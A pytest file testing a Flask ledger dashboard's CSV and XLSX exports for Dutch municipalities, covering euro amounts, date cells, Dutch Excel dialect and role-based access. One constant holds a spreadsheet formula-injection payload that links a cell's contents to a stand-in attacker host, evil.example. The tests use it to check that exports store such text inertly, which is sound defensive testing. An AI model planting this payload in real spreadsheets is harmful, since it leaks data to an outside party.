"""Downloads from the dashboard's pages with the session (issue 18, Must show 3): the balance, the
journal and the SiSa account as CSV (the API's own, or one for Dutch Excel) and as XLSX with amounts as
euro numbers and dates as dates; a municipality's own texts never become formulas; the API's rules."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from services.common.adapters.sql import create_sql_engine
from services.common.config import Settings, load_settings
from services.ledger.entrypoints.definition import create_app
from services.ledger.read_side import balances_projection
from tests.ledger.events import Streams, at
from tests.operators.test_dashboard_access import sign_in
from tests.support.spreadsheet import formula_cells
from tests.support.tokens import TokenFactory

CODE = "GM0363"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik");+1'
BASE = f"/dashboard/municipalities/{CODE}/2024"


def _posting(s: Streams, cents: int, booked_on: str, description: str) -> dict[str, Any]:
    expenditure_id = str(uuid.uuid4())
    return s.event("ExpenditureRecorded", f"expenditure-{expenditure_id}", CODE, at("2024-03-02"),
                   expenditure_id=expenditure_id, municipality_code=CODE, grant_year=2024, category="promotion",
                   amount_cents=cents, booked_on=booked_on, counterparty={"id": "P-1", "name": "Drukkerij"},
                   description=description, reference="R-1")


@pytest.fixture
def books(tmp_path: Path) -> Iterator[tuple[Settings, Flask]]:
    settings = load_settings(
        {"IDO_EVENT_STORE": "sqlite", "IDO_DATA_DIR": str(tmp_path / "data"), "IDO_KEYS_DIR": str(tmp_path / "keys")}
    )
    s = Streams("")
    _posting(s, 1250, "2024-03-01", HOSTILE)
    _posting(s, 123456789, "2024-04-15", "Flyers")
    engine = create_sql_engine(settings.view_db_url)
    projection = balances_projection()
    projection.create_tables(engine)
    with engine.begin() as connection:
        projection.apply_batch(connection, s.sent[0][0], [envelope for _t, _k, envelope in s.sent])
    TokenFactory(settings)  # the signing keys the app reads
    app = create_app(settings)
    yield settings, app
    app.extensions["ido.operations"].close()
    app.extensions["ledger"].application.close()


def _signed_in(books: tuple[Settings, Flask], role: str = "municipality", code: str | None = CODE) -> FlaskClient:
    settings, app = books
    client = app.test_client()
    tokens = TokenFactory(settings)
    sign_in(client, tokens.token(role, code) if code else tokens.token(role))
    return client


def test_the_journal_as_xlsx_has_euro_numbers_dates_and_texts_that_never_run(books: tuple[Settings, Flask]) -> None:
    answer = _signed_in(books).get(f"{BASE}/journal.xlsx")
    assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet")
    assert f'filename="journal-{CODE}-2024.xlsx"' in answer.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).active
    rows = list(sheet.iter_rows(values_only=False))
    header = [cell.value for cell in rows[0]]
    assert "amount_eur" in header and "amount_cents" not in header
    by_amount = {}
    for row in rows[1:]:
        cells = dict(zip(header, row, strict=True))
        amount = cells["amount_eur"]
        assert amount.data_type == "n" and "€" in amount.number_format
        assert isinstance(cells["booked_on"].value, datetime) and cells["booked_on"].is_date
        assert isinstance(cells["recorded_at"].value, datetime)
        by_amount[Decimal(str(amount.value))] = cells
    assert set(by_amount) == {Decimal("12.50"), Decimal("1234567.89")}
    hostile = by_amount[Decimal("12.50")]["description"]
    assert hostile.data_type == "s" and hostile.value == HOSTILE  # the text as typed, stored as text
    assert by_amount[Decimal("12.50")]["booked_on"].value.date() == date(2024, 3, 1)


def test_the_csv_for_dutch_excel_has_semicolons_decimal_commas_and_no_formula(books: tuple[Settings, Flask]) -> None:
    client = _signed_in(books)
    answer = client.get(f"{BASE}/journal.csv?dialect=excel-nl")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert sorted(row["amount_eur"] for row in rows) == ["12,50", "1234567,89"]
    assert {row["booked_on"] for row in rows} == {"2024-03-01", "2024-04-15"}
    assert formula_cells(text) == []
    plain = client.get(f"{BASE}/journal.csv").get_data(as_text=True)  # the API's own CSV, cents
    assert sorted(int(row["amount_cents"]) for row in csv.DictReader(io.StringIO(plain))) == [1250, 123456789]
    assert formula_cells(plain) == []


def test_the_plain_csv_is_the_apis_csv(books: tuple[Settings, Flask]) -> None:
    settings, app = books
    client = _signed_in(books)
    tokens = TokenFactory(settings)
    for page, api in ((f"{BASE}/balances.csv", f"/v1/municipalities/{CODE}/balances/2024.csv"),
                      (f"{BASE}/sisa.csv", f"/v1/municipalities/{CODE}/sisa/2024.csv"),
                      (f"{BASE}/journal.csv", f"/v1/municipalities/{CODE}/journal.csv?year=2024")):
        from_page = client.get(page)
        from_api = app.test_client().get(api, headers=tokens.headers("municipality", CODE))
        assert from_page.status_code == from_api.status_code == 200, page
        assert from_page.data == from_api.data, page


def test_balance_and_sisa_spreadsheets_and_the_national_one(books: tuple[Settings, Flask]) -> None:
    client = _signed_in(books)
    balance = openpyxl.load_workbook(io.BytesIO(client.get(f"{BASE}/balances.xlsx").data)).active
    header, values = (list(row) for row in balance.iter_rows(values_only=True))
    figures = dict(zip(header, values, strict=True))
    assert Decimal(str(figures["spent_eur"])) == Decimal("1234580.39") and figures["municipality_code"] == CODE
    sisa = openpyxl.load_workbook(io.BytesIO(client.get(f"{BASE}/sisa.xlsx").data)).active
    assert "besteding_jaar_t_eur" in next(sisa.iter_rows(values_only=True))
    ministry = _signed_in(books, "ministry", None)
    national = ministry.get("/dashboard/national/2024/balances.csv?dialect=excel-nl")
    assert national.status_code == 200 and national.get_data(as_text=True).startswith('"municipality_code";"year"')


@pytest.mark.parametrize(
    ("role", "code", "path", "status"),
    [
        ("municipality", "GM0599", f"{BASE}/journal.xlsx", 403),  # another municipality's books
        ("municipality", CODE, "/dashboard/national/2024/balances.xlsx", 403),
        ("kb", None, f"{BASE}/balances.csv", 403),
        ("auditor", None, f"{BASE}/journal.csv", 200),
        ("municipality", CODE, f"{BASE}/journal.csv?dialect=excel-us", 422),
        ("municipality", CODE, f"/dashboard/municipalities/{CODE}/1900/journal.csv", 404),
        ("municipality", CODE, f"{BASE}/journal.pdf", 404),
    ],
)
def test_downloads_follow_the_apis_access_rules(
    books: tuple[Settings, Flask], role: str, code: str | None, path: str, status: int
) -> None:
    answer = _signed_in(books, role, code).get(path)
    assert answer.status_code == status, answer.data[:300]
    if status == 422:
        assert "dialect" in answer.get_data(as_text=True)
    if status != 200:
        assert "Content-Disposition" not in answer.headers


def test_without_a_session_a_download_is_the_sign_in_page(books: tuple[Settings, Flask]) -> None:
    answer = books[1].test_client().get(f"{BASE}/journal.xlsx")
    assert answer.status_code == 401 and 'name="token"' in answer.get_data(as_text=True)


def test_no_other_module_writes_spreadsheets() -> None:
    # one writer types every text cell as text (services/common/spreadsheet.py); another would let
    # openpyxl store a municipality's "=..." as a formula
    root = Path(__file__).resolve().parents[2]
    writers = sorted(str(path.relative_to(root)) for folder in ("services", "contracts", "bench")
                     for path in (root / folder).rglob("*.py") if "openpyxl" in path.read_text(encoding="utf-8"))
    assert writers == ["services/common/spreadsheet.py"]
